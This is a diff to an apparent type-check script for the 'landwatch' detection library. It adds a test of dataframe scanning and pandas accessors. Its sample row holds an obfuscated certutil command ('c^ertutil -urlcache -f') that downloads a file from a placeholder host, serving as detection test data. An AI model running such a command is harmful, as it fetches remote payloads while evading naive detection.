@@ -6,6 +6,7 @@ mypy on it, and runs it too, so the stubs and the module cannot drift apart.
 
 from __future__ import annotations
 
+import importlib
 import io
 import sys
 from datetime import datetime
@@ -108,8 +109,25 @@ def functions() -> None:
     print(normal, decoded, base)
 
 
+def frames(rules: landwatch.Rules) -> None:
+    """scan_dataframe and the accessors; skipped without pandas."""
+    # pandas is optional and typed Any here (pandas-stubs cannot know the
+    # accessor); the frame functions' own types are what is checked.
+    try:
+        pandas: Any = importlib.import_module("pandas")
+    except ImportError:
+        return
+    df = pandas.DataFrame([{"EventID": 1, "CommandLine": "c^ertutil -urlcache -f http://x/a a"}])
+    out = landwatch.scan_dataframe(df, rules, schema="auto", column_map={"cmd": "CommandLine"}, lateness="60s")
+    again = landwatch.scan_dataframe(df, rules.scanner(), flush=False)
+    page: str = landwatch.detections_html(out, max_rows=10)
+    registered: bool = landwatch.register_pandas() and landwatch.register_polars()
+    print(len(out), len(again), len(page), registered, df.landwatch.scan(rules), df["CommandLine"].landwatch.normalize())
+
+
 if __name__ == "__main__":
     r = rules_api()
     scanner_api(r)
     functions()
+    frames(r)
     sys.exit(0)
